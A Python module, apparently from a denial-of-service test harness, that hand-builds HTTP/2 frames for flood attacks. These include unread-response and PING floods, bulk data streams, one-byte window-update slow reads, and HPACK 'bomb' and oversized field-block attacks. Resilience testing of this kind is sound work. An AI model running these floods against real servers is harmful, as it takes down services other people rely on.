"""Attacks by HTTP/2 (RFC 9113): streams, field blocks, frames and windows."""

from __future__ import annotations

from collections.abc import Callable, Iterable
from functools import cache
from itertools import chain, repeat

from flood_http1 import BULK_PATH, HEADS, KIB
from flood_swarm import HOST, Attack, Script, Step

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM = ACK = 0x1
END_HEADERS = 0x4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_INITIAL_WINDOW_SIZE = 4
_LARGEST_WINDOW = (1 << 31) - 1
_FRAME = 16_384
# Streams in one step of a script, and in all on one connection.
_BATCH = 50
_BATCHES = 2000
_BULK = 1 << 17
# What as many streams take as `requests.max_streams` allows to be open at once, each with its exchange and a
# service's connection.
STREAMS = 100 * 6 * KIB


def frame(kind: int, flags: int = 0, stream: int = 0, payload: bytes = b"") -> bytes:
    """A frame."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def literal(name: bytes, value: bytes) -> bytes:
    """A field that is not to be kept (RFC 7541 section 6.2.2), of short name and any value."""
    return b"\x00" + bytes([len(name)]) + name + _length(len(value)) + value


def _length(size: int) -> bytes:
    if size < 127:
        return bytes([size])
    rest, coded = size - 127, bytearray(b"\x7f")
    while rest >= 128:
        coded.append(rest % 128 | 128)
        rest //= 128
    coded.append(rest)
    return bytes(coded)


def block(
    path: bytes = b"/v1/users", host: bytes = HOST.encode(), method: bytes = b"\x82", rest: bytes = b""
) -> bytes:
    """The field block of a request; `method` as encoded, GET by default; `rest` are further fields, encoded."""
    return method + b"\x87\x04" + _length(len(path)) + path + b"\x01" + _length(len(host)) + host + rest


def opening(window: int = _LARGEST_WINDOW) -> bytes:
    """What a client begins with; `window` is that of each stream, the connection's is as large as can be."""
    settings = _INITIAL_WINDOW_SIZE.to_bytes(2, "big") + window.to_bytes(4, "big")
    more = (_LARGEST_WINDOW - 65_535).to_bytes(4, "big")
    return PREFACE + frame(SETTINGS, 0, 0, settings) + frame(SETTINGS, ACK) + frame(WINDOW_UPDATE, 0, 0, more)


def headers(stream: int, fields: bytes, *, end: bool = True) -> bytes:
    """HEADERS, and CONTINUATION frames where the block is too large for one."""
    pieces = [fields[start : start + _FRAME] for start in range(0, len(fields), _FRAME)]
    first = END_STREAM if end else 0
    if len(pieces) == 1:
        return frame(HEADERS, first | END_HEADERS, stream, fields)
    frames = [frame(HEADERS, first, stream, pieces[0])]
    frames += [frame(CONTINUATION, 0, stream, piece) for piece in pieces[1:-1]]
    return b"".join([*frames, frame(CONTINUATION, END_HEADERS, stream, pieces[-1])])


def on_streams(make: Callable[[int], bytes], batch: int = _BATCH, begin: bytes = b"") -> Script:
    """What `make` gives for each stream, one stream after the other, made once for all connections if it is small."""

    def made(number: int) -> bytes:
        return b"".join(make(2 * place + 1) for place in range(number * batch, (number + 1) * batch))

    begin = begin or opening()
    kept = cache(made) if size_of(make) < KIB else made
    return lambda: chain([begin], map(kept, range(_BATCHES)))


def on_connection(data: bytes, begin: bytes = b"") -> Script:
    """The same frames over and over."""
    bulk = data * max(1, _BULK // len(data))
    begin = begin or opening()
    return lambda: chain([begin], repeat(bulk))


def size_of(make: Callable[[int], bytes]) -> int:
    """Bytes for each stream."""
    return len(make(1))


def by_stream(
    name: str, item: str, make: Callable[[int], bytes], *, batch: int = _BATCH, **options: object
) -> Attack:
    options.setdefault("counted", options.get("reads", True))
    return Attack(name, item, "h2", on_streams(make, batch), size_of(make), **options)  # type: ignore[arg-type]


def unread() -> list[Attack]:
    """Item 1: nothing of the answers is ever read."""
    refused, large = block(b"/", b"x"), block(BULK_PATH + b"/60k")
    ping = frame(PING, 0, 0, b"attacker")
    return [
        by_stream("unread-refused", "1", lambda stream: headers(stream, refused), reads=False),
        by_stream(
            "unread-proxied",
            "1",
            lambda stream: headers(stream, large),
            reads=False,
            allowance=STREAMS,
            answer="60k",
        ),
        Attack("unread-pings", "1", "h2", on_connection(ping), len(ping), "frame", reads=False),
    ]


def bulk() -> list[Attack]:
    """Item 2: more work in one go than others should have to wait for."""
    refused, limited = block(b"/", b"x"), block(BULK_PATH)
    upload = headers(1, block(), end=False)
    small = frame(DATA, 0, 1, b"hello")
    return [
        by_stream("bulk-refused", "2", lambda stream: headers(stream, refused)),
        by_stream("bulk-streams", "2", lambda stream: headers(stream, limited)),
        Attack("bulk-data", "2", "h2", on_connection(small, opening() + upload), len(small), "frame"),
    ]


def shut_windows(target: bytes, pause: float) -> Script:
    """A hundred answers that are taken a byte at a time."""
    begin = opening(0) + b"".join(headers(2 * place + 1, block(target)) for place in range(100))

    def script() -> Iterable[Step]:
        yield begin
        for place in range(1_000_000):
            yield pause
            yield frame(WINDOW_UPDATE, 0, 2 * (place % 100) + 1, (1).to_bytes(4, "big"))

    return script


def windows() -> list[Attack]:
    """Item 5: answers that are asked for and not taken."""
    return [
        Attack(
            f"windows-{name}",
            "5",
            "h2",
            shut_windows(BULK_PATH + b"/" + name.encode(), 0.5),
            75,
            allowance=STREAMS,
            answer=name,
        )
        for name in ("60k", "250k")
    ]


def field_blocks() -> list[Attack]:
    """Items 4 and 6: field blocks that cost more than they should."""
    empty = block() + b"\x40\x00\x00" * 11_000
    static = block() + b"\x90" * 32_000
    # One entry of 4,000 bytes in the table, which a byte names over and over (an HPACK bomb).
    entry = b"\x40\x01a" + _length(4000) + b"b" * 4000
    bomb = block(rest=b"\xbe" * 16_000)
    dynamic = block() + b"\x40\x01a\x01b" + b"\xbe" * 32_000
    blocks = {
        "blocks-empty": ("4", empty),
        "blocks-static": ("6", static),
        "blocks-dynamic": ("6", dynamic),
    }
    cases = []
    for name, (item, fields) in blocks.items():
        cases.append(_large(name, item, fields))
    begin = opening() + headers(1, block() + entry)
    bombs = on_streams(lambda stream: headers(stream + 2, bomb), 4, begin)
    cases.append(Attack("blocks-bomb", "4", "h2", bombs, len(headers(1, bomb)), counted=True, allowance=32 * KIB))
    for name, line in HEADS.items():
        field, _, value = line.strip().partition(b":")
        if field != b"Connection":
            one = literal(field.lower(), value.strip())
            cases.append(_large(name, "6", block() + one * (30_000 // len(one))))
    return cases


def _large(name: str, item: str, fields: bytes) -> Attack:
    return by_stream(name, item, lambda stream: headers(stream, fields), batch=4, allowance=32 * KIB)
